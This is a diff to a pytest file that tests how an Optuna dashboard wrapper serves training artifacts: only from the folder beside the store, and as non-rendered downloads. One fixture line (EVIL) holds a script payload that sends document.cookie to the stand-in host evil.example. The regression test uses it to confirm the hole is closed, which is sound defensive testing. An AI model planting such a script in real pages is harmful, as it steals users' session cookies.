@@ -1,6 +1,7 @@
 """What optuna-dashboard shows of a study, read through the dashboard's own JSON API (its WSGI app, served on the store
 `hpo-astro dashboard` opens): the objective's name, the study note, per-epoch curves one readable attribute each, no
-pointer to a deleted checkpoint, and the best weights downloadable from their trial."""
+pointer to a deleted checkpoint, and the best weights downloadable from their trial, as downloads only, from the folder
+beside the store or the one given with --artifacts, never from a folder the store names."""
 
 from __future__ import annotations
 
@@ -10,15 +11,16 @@ import json
 import sys
 from collections.abc import Callable
 from pathlib import Path
-from typing import Any
+from typing import Any, NamedTuple
 from wsgiref.util import setup_testing_defaults
 
 import optuna
 import pytest
 import torch
-from helpers import SMALL_SPACE, fake_train, invoke, study_config
+from helpers import SMALL_SPACE, assert_refused, fake_train, invoke, study_config
 from optuna.trial import TrialState
 
+from hpo_astro import dashboard as dashboard_module
 from hpo_astro import run as run_module
 from hpo_astro.dashboard import ReadOnlyArtifacts
 from hpo_astro.record import CURVE_PREFIX, HISTORY_ATTR, HISTORY_SYSTEM_ATTR, trial_history
@@ -29,44 +31,53 @@ SERIES = ("train_loss", "train_accuracy", "val_loss", "val_accuracy", "val_roc_a
 MAX_ATTR_LENGTH = 1024  # optuna-dashboard cuts an attribute's value here (optuna_dashboard._serializer)
 
 
-def _get(app: Callable, path: str) -> tuple[str, bytes]:
-    """One GET request to a WSGI app: (status line, body)."""
+class Reply(NamedTuple):
+    status: str
+    body: bytes
+    headers: dict[str, str]  # names lower-cased
+
+
+def _get(app: Callable, path: str) -> Reply:
+    """One GET request to a WSGI app."""
     environ: dict[str, Any] = {}
     setup_testing_defaults(environ)
     environ["PATH_INFO"], _, environ["QUERY_STRING"] = path.partition("?")
-    status: list[str] = []
-    chunks = app(environ, lambda line, headers, exc_info=None: status.append(line))
+    started: list[tuple[str, list[tuple[str, str]]]] = []
+    chunks = app(environ, lambda line, headers, exc_info=None: started.append((line, headers)))
     try:
         body = b"".join(chunks)
     finally:
         getattr(chunks, "close", lambda: None)()
-    return status[0], body
+    (status, headers), *_ = started
+    return Reply(status, body, {name.lower(): value for name, value in headers})
 
 
-def crawl_dashboard(url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
-    """Run `hpo-astro dashboard --storage URL` with optuna-dashboard's server replaced by a crawl of its JSON API
-    over the same store and artifact store: every study's detail, and every artifact a trial lists."""
-    import optuna_dashboard
-
+def crawl_dashboard(url: str, monkeypatch: pytest.MonkeyPatch, *options: object) -> dict[str, Any]:
+    """Run `hpo-astro dashboard --storage URL OPTIONS...` with its server replaced by a crawl of the app it would
+    serve, over the same store and artifact store: every study's detail, and every artifact a trial lists. The
+    command's stderr is under "stderr"."""
     pages: dict[str, Any] = {}
 
     def run_server(storage: optuna.storages.BaseStorage, host: str, port: int, artifact_store: Any = None) -> None:
-        app = optuna_dashboard.wsgi(storage, artifact_store=artifact_store)
-        pages["meta"] = json.loads(_get(app, "/api/meta")[1])
-        pages["studies"] = json.loads(_get(app, "/api/studies")[1])["study_summaries"]
+        assert host == "127.0.0.1"
+        app = dashboard_module.dashboard_app(storage, artifact_store)
+        pages["meta"] = json.loads(_get(app, "/api/meta").body)
+        pages["studies"] = json.loads(_get(app, "/api/studies").body)["study_summaries"]
         for summary in pages["studies"]:
             study_id = summary["study_id"]
-            status, body = _get(app, f"/api/studies/{study_id}")
+            status, body, _ = _get(app, f"/api/studies/{study_id}")
             assert status.startswith("200"), status
             detail = pages[summary["study_name"]] = json.loads(body)
             for trial in detail["trials"]:
                 for artifact in trial["artifacts"]:
                     path = f"/artifacts/{study_id}/{trial['trial_id']}/{artifact['artifact_id']}"
                     pages[path] = _get(app, path)
+        pages["app"] = app
 
-    monkeypatch.setattr(optuna_dashboard, "run_server", run_server)
-    result = invoke("dashboard", "--storage", url)
+    monkeypatch.setattr(dashboard_module, "run_server", run_server)
+    result = invoke("dashboard", "--storage", url, *options)
     assert result.exit_code == 0, result.output
+    pages["stderr"] = result.stderr
     return pages
 
 
@@ -120,7 +131,7 @@ def test_the_dashboard_shows_what_the_study_means(
         weights = [a for a in trial["artifacts"] if a["filename"].endswith("-weights.pt")]
         if trial["number"] == best:
             (artifact,) = weights
-            status, body = pages[f"/artifacts/{study_id}/{trial['trial_id']}/{artifact['artifact_id']}"]
+            status, body, _ = pages[f"/artifacts/{study_id}/{trial['trial_id']}/{artifact['artifact_id']}"]
             assert status.startswith("200")
             assert torch.load(io.BytesIO(body), weights_only=True).keys() == {"weight", "bias"}
     assert not list((tmp_path / "optuna.db.artifacts").glob("ckpt-*"))
@@ -252,3 +263,96 @@ def test_the_dashboards_artifact_store_is_read_only(tmp_path: Path) -> None:
     with pytest.raises(PermissionError):
         served.remove("abc-1")
     assert (tmp_path / "abc-1").exists()
+
+
+# --- which artifacts are served, and how ------------------------------------------------------------------------
+
+EVIL = b"<script>fetch('https://evil.example/?' + document.cookie)</script>"
+
+
+def _hostile_store(tmp_path: Path, small_file: Path) -> tuple[str, Path]:
+    """A store from someone else, with an empty artifact folder beside it: its study records another folder (one of
+    the user's, say), where `evil.html` is listed on a trial as an artifact (Optuna's own record: text/html)."""
+    store, elsewhere = tmp_path / "store", tmp_path / "elsewhere"
+    store.mkdir()
+    space = SearchSpace.from_dict(SMALL_SPACE)
+    cfg = study_config(store, small_file, n_trials=1, max_epochs=1, space=space, artifacts=elsewhere)
+    run_study(cfg, train=fake_train)
+    study = optuna.load_study(study_name=cfg.study_name, storage=cfg.storage)
+    page = tmp_path / "evil.html"
+    page.write_bytes(EVIL)
+    trial = study.ask()
+    store_in = optuna.artifacts.FileSystemArtifactStore(str(elsewhere))
+    optuna.artifacts.upload_artifact(artifact_store=store_in, file_path=str(page), study_or_trial=trial)
+    study.tell(trial, 0.5)
+    (store / "optuna.db.artifacts").mkdir()
+    return cfg.storage, elsewhere
+
+
+def _artifact_replies(pages: dict[str, Any]) -> list[Reply]:
+    return [reply for path, reply in pages.items() if path.startswith("/artifacts/")]
+
+
+def _is_download(reply: Reply) -> bool:
+    """Served as a download: never a type a browser renders, no sniffing, readable by no other origin."""
+    return (
+        reply.headers.get("content-type") == "application/octet-stream"
+        and reply.headers.get("x-content-type-options") == "nosniff"
+        and reply.headers.get("content-disposition") == "attachment"
+        and not any(name.startswith("access-control-") for name in reply.headers)
+    )
+
+
+def test_a_folder_the_store_names_is_not_served(
+    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It was: a hostile store could have the dashboard serve any folder's files as pages on its origin, readable
+    by every site (`Access-Control-Allow-Origin: *`). Only the folder beside the store is served; a note says how to
+    serve the other one."""
+    url, elsewhere = _hostile_store(tmp_path, small_file)
+    pages = crawl_dashboard(url, monkeypatch)
+    replies = _artifact_replies(pages)
+    assert len(replies) == 2  # the weights and evil.html, both in the folder the store names
+    assert all(not reply.status.startswith("200") and EVIL not in reply.body for reply in replies)
+    folder = elsewhere.resolve()
+    assert pages["stderr"].splitlines() == [
+        f"note: {folder} (the artifact folder of 'random') is not served; add --artifacts {folder} to serve it"
+    ]
+
+
+def test_the_folder_beside_the_store_is_served_as_downloads(
+    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Also for a store moved with its folder (the one its study recorded is gone): application/octet-stream, not
+    the type recorded in the store, nosniff, and no CORS header; the dashboard's own pages keep their types."""
+    made, moved = tmp_path / "made", tmp_path / "moved"
+    made.mkdir()
+    space = SearchSpace.from_dict(SMALL_SPACE)
+    run_study(study_config(made, small_file, n_trials=1, max_epochs=1, space=space), train=fake_train)
+    made.rename(moved)
+    pages = crawl_dashboard(f"sqlite:///{moved / 'optuna.db'}", monkeypatch)
+    assert pages["stderr"] == ""
+    (path,) = [path for path in pages if path.startswith("/artifacts/")]  # the weights, trial-0-weights.pt
+    reply = pages[path]
+    assert reply.status.startswith("200") and _is_download(reply)
+    assert torch.load(io.BytesIO(reply.body), weights_only=True).keys() == {"weight", "bias"}
+    # the same route spelled with a byte bottle drops when it reads the path
+    sneaky = _get(pages["app"], "/\xff" + path[1:])
+    assert sneaky.status.startswith("200") and sneaky.body == reply.body and _is_download(sneaky)
+    assert _get(pages["app"], "/dashboard").headers["content-type"].startswith("text/html")
+    assert _get(pages["app"], "/api/meta").headers["content-type"].startswith("application/json")
+
+
+def test_the_artifacts_option_serves_that_folder(
+    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    url, elsewhere = _hostile_store(tmp_path, small_file)
+    pages = crawl_dashboard(url, monkeypatch, "--artifacts", elsewhere)
+    assert pages["stderr"] == ""  # the folder the study records is the one served
+    replies = _artifact_replies(pages)
+    assert len(replies) == 2 and all(reply.status.startswith("200") and _is_download(reply) for reply in replies)
+    assert EVIL in [reply.body for reply in replies]  # a download, as any other file
+
+    monkeypatch.setattr(dashboard_module, "run_server", lambda *a, **k: pytest.fail("must not start"))
+    for bad in (tmp_path / "none", tmp_path / "evil.html"):
+        assert_refused(invoke("dashboard", "--storage", url, "--artifacts", bad), f"--artifacts {bad} is not a folder")
